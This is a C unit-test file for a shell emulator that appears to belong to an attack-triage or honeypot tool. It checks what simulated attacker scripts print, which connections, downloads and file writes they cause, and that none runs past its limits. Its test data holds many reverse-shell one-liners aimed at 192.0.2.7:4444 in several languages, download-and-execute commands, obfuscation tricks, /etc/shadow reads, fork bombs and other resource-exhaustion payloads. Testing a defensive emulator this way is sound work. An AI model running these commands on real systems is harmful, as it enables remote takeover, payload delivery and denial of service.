/* What attackers' scripts print and do in imitation, and that no script escapes its bounds. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <time.h>

#include <cmocka.h>

#include "triage/shell/shell.h"

static int set_up(void **state)
{
    *state = calloc(1, sizeof(struct arena));
    return *state ? 0 : -1;
}

static int tear_down(void **state)
{
    arena_finish(*state);
    free(*state);
    return 0;
}

static struct shell_result run(void **state, enum shell_profile profile, const char *script)
{
    struct shell_result result;
    assert_int_equal(shell_run(profile, bytes_of(script), *state, &result), 0);
    return result;
}

static void prints(void **state, enum shell_profile profile, const char *script, const char *output)
{
    struct shell_result result = run(state, profile, script);
    if (!bytes_equal(result.output, bytes_of(output)))
        fail_msg("%s: printed [%.*s], not [%s]", script, (int)result.output.len, result.output.at,
                 output);
}

static const struct shell_effect *effect_of(const struct shell_result *result,
                                            enum shell_effect_kind kind)
{
    for (uint32_t i = 0; i < result->effect_count; i++)
        if (result->effects[i].kind == kind)
            return &result->effects[i];
    fail_msg("no %s", shell_effect_name(kind));
    return NULL;
}

static void connects(void **state, enum shell_profile profile, const char *script)
{
    struct shell_result result = run(state, profile, script);
    const struct shell_effect *effect = effect_of(&result, SHELL_connect);
    assert_true(bytes_equal(effect->host, BYTES("192.0.2.7")));
    assert_int_equal(effect->port, 4444);
}

static void test_tricks(void **state)
{
    static const char *const scripts[] = {
        "ec''ho hi",         "ec\"\"ho hi",
        "e\\cho hi",         "ec$@ho hi",
        "echo${IFS}hi",      "$(printf 'ec%s' ho) hi",
        "a=ec;b=ho;$a$b hi", "echo aGk=|base64 -d;echo",
        "echo ih|rev",       "printf '\\150\\151\\n'",
        "`echo echo` hi",    "eval $(echo echo hi)",
        "echo echo hi|sh",   "/bin/e?ho hi",
        "x=hi;echo ${x}",    "sh -c 'echo hi'",
    };
    for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
        prints(state, SHELL_debian, scripts[i], "hi\n");
        prints(state, SHELL_bash, scripts[i], "hi\n");
        prints(state, SHELL_busybox, scripts[i], "hi\n");
    }
    prints(state, SHELL_bash, "{echo,hi}", "hi\n");
    prints(state, SHELL_bash, "${PATH:0:1}bin${PATH:0:1}echo hi", "hi\n");
    prints(state, SHELL_bash, "$'\\x65cho' hi", "hi\n");
    prints(state, SHELL_bash, "echo 6869 | xxd -r -p; echo", "hi\n");
}

static void test_reverse_shells(void **state)
{
    static const char *const scripts[] = {
        "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
        "bash -c 'exec 5<>/dev/tcp/192.0.2.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done'",
        "nc -e /bin/sh 192.0.2.7 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
        "busybox nc 192.0.2.7 4444 </dev/null",
        "telnet 192.0.2.7 4444 | /bin/sh",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4444));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
        "perl -e 'use Socket;$i=\"192.0.2.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
        "getprotobyname(\"tcp\"));'",
        "php -r '$sock=fsockopen(\"192.0.2.7\",4444);exec(\"sh <&3 >&3 2>&3\");'",
        "socat TCP:192.0.2.7:4444 EXEC:sh",
        "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQ0NCAwPiYx|base64 -d|bash",
    };
    for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++)
        connects(state, SHELL_debian, scripts[i]);
    connects(state, SHELL_bash, "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1");
    connects(state, SHELL_powershell,
             "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream()");
    connects(state, SHELL_cmd, "nc.exe -e cmd.exe 192.0.2.7 4444");
}

static void test_sent_bytes(void **state)
{
    struct shell_result result =
        run(state, SHELL_debian, "bash -c 'echo hi64560 >/dev/tcp/192.0.2.7/4444'");
    assert_true(bytes_equal(effect_of(&result, SHELL_connect)->data, BYTES("hi64560\n")));
    result = run(state, SHELL_debian, "id|nc -u 192.0.2.7 53");
    assert_int_equal(effect_of(&result, SHELL_connect)->protocol, 17);
}

static void test_requests(void **state)
{
    struct shell_result result = run(
        state, SHELL_debian, "curl -s http://a.example:8000/x?y=$(echo 1) -o /tmp/z; sh /tmp/z");
    const struct shell_effect *request = effect_of(&result, SHELL_request);
    assert_true(bytes_equal(request->host, BYTES("a.example")));
    assert_true(bytes_equal(request->text, BYTES("/x?y=1")));
    assert_int_equal(request->port, 8000);
    assert_true(bytes_equal(effect_of(&result, SHELL_resolve)->host, BYTES("a.example")));
    assert_true(bytes_equal(effect_of(&result, SHELL_write)->text, BYTES("/tmp/z")));
    result = run(state, SHELL_busybox, "tftp -g -r bot.sh 192.0.2.7");
    assert_true(bytes_equal(effect_of(&result, SHELL_request)->text, BYTES("bot.sh")));
}

static void test_files(void **state)
{
    struct shell_result result = run(state, SHELL_debian, "echo '<?php echo 7*7;?>' > up/x.php");
    assert_true(bytes_equal(effect_of(&result, SHELL_write)->text, BYTES("up/x.php")));
    assert_true(bytes_equal(effect_of(&result, SHELL_write)->data, BYTES("<?php echo 7*7;?>\n")));
    result = run(state, SHELL_debian, "rm -f /tmp/x");
    assert_true(bytes_equal(effect_of(&result, SHELL_remove)->text, BYTES("/tmp/x")));
}

static void test_delays(void **state)
{
    assert_true(run(state, SHELL_debian, "sleep 5").seconds == 5);
    assert_true(run(state, SHELL_debian, "sleep 1.5; sleep 1m").seconds == 61.5);
    assert_true(run(state, SHELL_debian, "ping -c 6 127.0.0.1").seconds == 5);
    assert_true(run(state, SHELL_debian, "timeout 2 sleep 9").seconds == 2);
    assert_true(run(state, SHELL_debian, "sleep 9 &").seconds == 0);
    assert_true(run(state, SHELL_debian, "false && sleep 9").seconds == 0);
    assert_true(run(state, SHELL_debian, "sleep 2 | sleep 3").seconds == 3);
    assert_true(run(state, SHELL_cmd, "ping -n 6 127.0.0.1").seconds == 5);
    assert_true(run(state, SHELL_powershell, "Start-Sleep -Seconds 5").seconds == 5);
}

static void test_users(void **state)
{
    struct shell_result result = run(state, SHELL_debian, "cat /etc/shadow");
    assert_true(bytes_equal(result.errors, BYTES("cat: /etc/shadow: Permission denied\n")));
    assert_true(result.user_matters);
    assert_int_equal(shell_run_as(SHELL_debian, true, BYTES("cat /etc/shadow"), *state, &result),
                     0);
    assert_true(bytes_start(result.output, BYTES("root:")));
    prints(state, SHELL_busybox, "whoami", "root\n");
}

static void test_pattern(void **state)
{
    struct bytes pattern;
    double bits, more;
    struct shell_result result = run(state, SHELL_debian, "id");
    assert_false(shell_output_exact(result.output));
    assert_int_equal(shell_output_pattern(result.output, *state, &pattern, &bits), 0);
    assert_true(bytes_start(pattern, BYTES("uid\\=\\d+\\(")));
    assert_true(bits > 40);
    assert_int_equal(shell_output_pattern(BYTES(""), *state, &pattern, &bits), 0);
    assert_true(pattern.len == 0 && bits == 0);
    assert_int_equal(shell_output_pattern(BYTES("\x04"), *state, &pattern, &bits), 0);
    assert_true(pattern.len == 0 && bits == 0);
    assert_int_equal(shell_output_pattern(BYTES("12345\n"), *state, &pattern, &bits), 0);
    assert_int_equal(shell_output_pattern(BYTES("1234567\n"), *state, &pattern, &more), 0);
    assert_true(more > bits);
}

static void test_windows(void **state)
{
    prints(state, SHELL_cmd, "e^ch^o hi&&set /a 6*7", "hi\n42");
    prints(state, SHELL_cmd, "set x=ech&&call %x%o hi", "hi\n");
    prints(state, SHELL_powershell, "iex ('ec'+'ho hi')", "hi\n");
    prints(state, SHELL_powershell, "[char]72+[char]105", "Hi\n");
    prints(state, SHELL_powershell, "\"{1}{0}\" -f 'i','h'", "hi\n");
    prints(state, SHELL_cmd, "powershell -enc ZQBjAGgAbwAgAGgAaQA=", "hi\n");
    struct shell_result result =
        run(state, SHELL_cmd, "certutil -urlcache -split -f http://a.example/b.exe c.exe");
    assert_true(bytes_equal(effect_of(&result, SHELL_request)->text, BYTES("/b.exe")));
    result = run(state, SHELL_powershell,
                 "IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')");
    assert_true(bytes_equal(effect_of(&result, SHELL_request)->text, BYTES("/p")));
}

static void test_deterministic(void **state)
{
    const char *script = "for i in $(seq 9); do echo $i$RANDOM; done | sort -R; id; ls /; date";
    struct shell_result first = run(state, SHELL_bash, script);
    for (int i = 0; i < 3; i++)
        assert_true(bytes_equal(first.output, run(state, SHELL_bash, script).output));
}

static double seconds_now(void)
{
    struct timespec now;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static struct bytes repeated(void **state, const char *what, size_t count, const char *after)
{
    size_t length = strlen(what), tail = strlen(after);
    char *at = arena_take(*state, length * count + tail + 1);
    assert_non_null(at);
    for (size_t i = 0; i < count; i++)
        memcpy(at + i * length, what, length);
    memcpy(at + count * length, after, tail);
    return (struct bytes){at, count * length + tail};
}

static void bounded(void **state, struct bytes script)
{
    for (enum shell_profile profile = 0; profile < SHELL_PROFILES; profile++) {
        struct shell_result result;
        double start = seconds_now();
        assert_int_equal(shell_run(profile, script, *state, &result), 0);
        double spent = seconds_now() - start;
        if (spent > 10) /* a bound ten times what the slowest takes, for sanitizers */
            fail_msg("%.40s took %.1f s", script.at, spent);
        assert_true(result.output.len <= SHELL_OUTPUT);
    }
}

static void test_bounds(void **state)
{
    static const char *const scripts[] = {
        ":(){ :|:& };:",
        "while :; do :; done",
        "while true; do echo y; done",
        "yes | cat | cat | md5sum",
        "printf '%99999999d' 1",
        "printf '%s' {1..999999999}",
        "seq 1 1000000000000",
        "a=x; while :; do a=$a$a; done",
        "a=x; while :; do a=$a$a; echo ${a//x/yy} | sed 's/y*y*y*z//' | md5sum; done",
        "f() { f; }; f",
        "f() { f | f; }; f",
        "eval eval eval eval 'eval \"$0\"'",
        "awk 'BEGIN{while(1)x=x \"aaaa\"}'",
        "for i in {a..z}{a..z}{a..z}{a..z}{a..z}; do :; done",
        "echo $((2**99999999)) $((1<<9999))",
        "[[ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa =~ (a*)*b ]]",
        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a+)+(a+)+(a+)+$b'",
        "while($true){iex 'echo 1'}",
        "for /L %i in (1,1,99999999) do @for /L %j in (1,1,99999999) do @echo %i%j",
        "1..999999999",
        "'a'*999999999",
        "xargs -n 1 sh -c 'sh -c \"echo $0\"' < /etc/passwd",
        "cat /etc/passwd > /tmp/a; while :; do cat /tmp/a >> /tmp/a; done",
        "ls -laR / ; find / -name '*'; grep -r root /",
    };
    for (size_t i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++)
        bounded(state, bytes_of(scripts[i]));
    static const char *const nested[] = {"$(",      "`",       "$((", "(",     "{ ", "\"$(",
                                         "if ",     "${a:-",   "<(",  "[[ ( ", "((", "@(",
                                         "$(echo ", "[char](", "^",   "a=("};
    for (size_t i = 0; i < sizeof(nested) / sizeof(nested[0]); i++)
        bounded(state, repeated(state, nested[i], 1000, "echo 1"));
    bounded(state, repeated(state, "'", 1 << 20, ""));
    bounded(state, repeated(state, "\"a\"", 1 << 18, ""));
    bounded(state, repeated(state, "\\", 1 << 20, ""));
    bounded(state, repeated(state, "a|", 1 << 18, "a"));
    bounded(state, repeated(state, "a;", 1 << 18, "a"));
    bounded(state, repeated(state, "echo a&&", 1 << 16, "a"));
    bounded(state, repeated(state, "{a,b}", 64, ""));
    bounded(state, repeated(state, "*?", 1 << 16, ""));
    bounded(state, repeated(state, "cat <<E\n", 4096, "E\n"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_tricks, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_reverse_shells, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_sent_bytes, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_requests, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_files, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_delays, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_users, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_pattern, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_windows, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_deterministic, set_up, tear_down),
        cmocka_unit_test_setup_teardown(test_bounds, set_up, tear_down),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
